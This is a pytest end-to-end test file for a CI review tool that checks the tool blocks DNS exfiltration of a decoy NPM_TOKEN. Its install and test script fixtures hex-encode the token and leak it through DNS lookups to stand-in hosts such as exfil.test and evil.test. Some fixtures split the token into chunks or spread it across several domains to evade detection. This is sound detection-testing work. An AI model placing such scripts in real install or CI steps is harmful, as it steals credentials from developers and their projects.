"""DNS cannot be blinded by sending a decoy a few characters per query (issue 20, item 6).

One real `cujo review` per case, as in test_detection_e2e.py: the plain payload (the
decoy in one query), the same decoy hex-encoded eight characters per query from a shell
loop (a process per query) at install and at test time, a tunnel of random bytes with
no decoy (and, in the same review's tests, the decoy in pieces from one process under
three parent domains), and a test suite that looks up a few dozen ordinary names hundreds of times.
Every name is a `.test` name the logging resolver answers itself.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from cujorun import Review
from e2ecases import (
    ISOLATION,
    CaseReviews,
    case_reviews,
    critical_rules,
    findings,
)

pytestmark = ISOLATION

FAST = {"install": 120, "test": 120, "smoke": 60, "probes": 60}


def project(install: str = "echo installed\n", test: str = "echo tested\n") -> dict[str, str]:
    """Return a project whose install and tests are `ci/install.sh` and `ci/test.sh`."""
    policy = {
        "timeouts": FAST,
        "install": "bash ci/install.sh",
        "test": "bash ci/test.sh",
        "smoke": "true",
    }
    return {
        "requirements.txt": "",
        "calc.py": "def add(a, b):\n    return a + b\n",
        "ci/install.sh": install,
        "ci/test.sh": test,
        ".cujo.yml": json.dumps(policy) + "\n",
    }


# The whole decoy in one query: what the resolver always found.
PLAIN = """\
hex=$(python -c 'import os; print(os.environ["NPM_TOKEN"].encode().hex())')
getent hosts "${hex:0:40}.${hex:40}.plain.exfil.test" >/dev/null || true
echo sent
"""

# Eight hex characters and a counter per query, one getent process per query.
CHUNKED = """\
hex=$(python -c 'import os; print(os.environ["NPM_TOKEN"].encode().hex())')
i=0
while [ -n "$hex" ]; do
  getent hosts "${hex:0:8}.$i.t.exfil.test" >/dev/null || true
  getent hosts "pypi.org" >/dev/null || true
  hex=${hex:8}
  i=$((i + 1))
done
echo "sent $i"
"""

# Random bytes (encrypted data, whatever it is) as 16 hex characters per query.
TUNNEL = """\
python - <<'PY'
import os, socket
data = os.urandom(600).hex()
for i in range(0, len(data), 16):
    try:
        socket.getaddrinfo(f"{data[i:i + 16]}.{i // 16}.t.exfil.test", 443)
    except OSError:
        pass
print("sent", len(data) // 16)
PY
"""

# Eight hex characters a query from one process, each piece under the next of three
# parent domains: no domain sees a slice, only the process's stream across them.
ACROSS = """\
python - <<'PY'
import os, socket
data = os.environ["NPM_TOKEN"].encode().hex()
zones = ["t.one.exfil.test", "t.two.evil.test", "t.three.other.test"]
for n, i in enumerate(range(0, len(data), 8)):
    try:
        socket.getaddrinfo(f"{data[i:i + 8]}.{zones[n % 3]}", 443)
    except OSError:
        pass
print("sent", n + 1)
PY
"""

# A suite that resolves a few dozen ordinary names, hundreds of times.
BENIGN = """\
python - <<'PY'
import socket
names = ["api.github.com", "s3.amazonaws.com", "d1a2b3c4.cloudfront.net",
         "d9f8e7a6.cloudfront.net", "example.test"]
names += [f"host-{i}.example.test" for i in range(30)]
failed = 0
for round in range(10):
    for name in names:
        try:
            socket.getaddrinfo(name, 443)
        except OSError:
            failed += 1
print("looked up", 10 * len(names), "failed", failed)
PY
"""

CASES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
    "plain": (project(), {"ci/install.sh": PLAIN}),
    "chunked-install": (project(), {"ci/install.sh": CHUNKED}),
    "chunked-test": (project(), {"ci/test.sh": CHUNKED}),
    # One review, two attacks: the tunnel at install, the pieces across domains in tests.
    "tunnel-install": (project(), {"ci/install.sh": TUNNEL, "ci/test.sh": ACROSS}),
    "benign-test": (project(), {"ci/test.sh": BENIGN}),
}

reviews = case_reviews(CASES, "blind-dns")
Reviews = CaseReviews


def assert_blocked_by(review: Review, rule: str) -> None:
    assert review.code == 1, str(review)
    assert review.verdict["state"] == "blocked", str(review)
    assert review.verdict["isolation"] == "full", str(review)
    assert rule in critical_rules(review), review.verdict["findings"]


def sent(review: Review, check: str) -> list[dict[str, Any]]:
    """Return the DNS egress of ``check`` that carried a decoy."""
    return [e for e in review.report(check)["egress"] if e["route"] == "dns" and e["decoy_seen"]]


def test_a_decoy_in_one_query_blocks(reviews: Reviews) -> None:
    review = reviews.get("plain")
    assert_blocked_by(review, "decoy-egress")
    items = sent(review, "install")  # getent asks for A and AAAA
    assert {e["host"].split(".", 2)[-1] for e in items} == {"plain.exfil.test"}
    assert all(e["decoy_seen"] == ["NPM_TOKEN"] and "dns:hex" in e["decoy_where"] for e in items)


@pytest.mark.parametrize(
    ("case", "check"), [("chunked-install", "install"), ("chunked-test", "tests")]
)
def test_a_decoy_sent_eight_hex_characters_a_query_blocks(
    reviews: Reviews, case: str, check: str
) -> None:
    review = reviews.get(case)
    assert_blocked_by(review, "decoy-egress")
    items = sent(review, check)
    assert items, review.report(check)["egress"]
    assert {d for e in items for d in e["decoy_seen"]} == {"NPM_TOKEN"}
    assert "dns:joined+hex" in items[0]["decoy_where"]
    # No query held a slice of it: each carried eight characters and a counter.
    assert all(e["host"].endswith(".t.exfil.test") for e in items)
    assert all(len(e["host"].split(".")[0]) == 8 for e in items)


def test_a_tunnel_of_random_bytes_at_install_blocks(reviews: Reviews) -> None:
    review = reviews.get("tunnel-install")
    assert_blocked_by(review, "dns-tunnel")
    (hit,) = findings(review, "dns-tunnel")
    assert "exfil.test" in hit["title"], hit
    marked = [e for e in review.report("install")["egress"] if e.get("dns_tunnel")]
    assert marked
    assert all(e["host"].endswith(".t.exfil.test") for e in marked)


def test_a_decoy_in_pieces_under_three_parent_domains_from_one_process_blocks(
    reviews: Reviews,
) -> None:
    review = reviews.get("tunnel-install")
    assert_blocked_by(review, "decoy-egress")
    items = sent(review, "tests")
    assert items, review.report("tests")["egress"]
    assert {d for e in items for d in e["decoy_seen"]} == {"NPM_TOKEN"}
    assert "dns:joined+hex" in items[0]["decoy_where"]
    hit = next(f for f in findings(review, "decoy-egress") if f["check"] == "tests")
    assert hit["severity"] == "critical", hit
    # Every query held eight characters, and no parent domain saw two pieces in a row.
    zones = ("one.exfil.test", "two.evil.test", "three.other.test")
    pieces = [e for e in review.report("tests")["egress"] if e["host"].endswith(zones)]
    assert {e["host"].split(".", 2)[-1] for e in pieces} == set(zones)
    assert all(len(e["host"].split(".")[0]) == 8 for e in pieces)


def test_a_suite_that_looks_up_a_few_dozen_names_often_is_no_tunnel(reviews: Reviews) -> None:
    review = reviews.get("benign-test")
    assert review.code == 0, review.report("tests")["commands"][-1]["stdout_tail"]
    assert review.verdict["state"] == "clean", str(review)
    assert not findings(review, "dns-tunnel")
    assert not findings(review, "decoy-egress")
    egress = review.report("tests")["egress"]
    assert not [e for e in egress if e.get("dns_tunnel")]
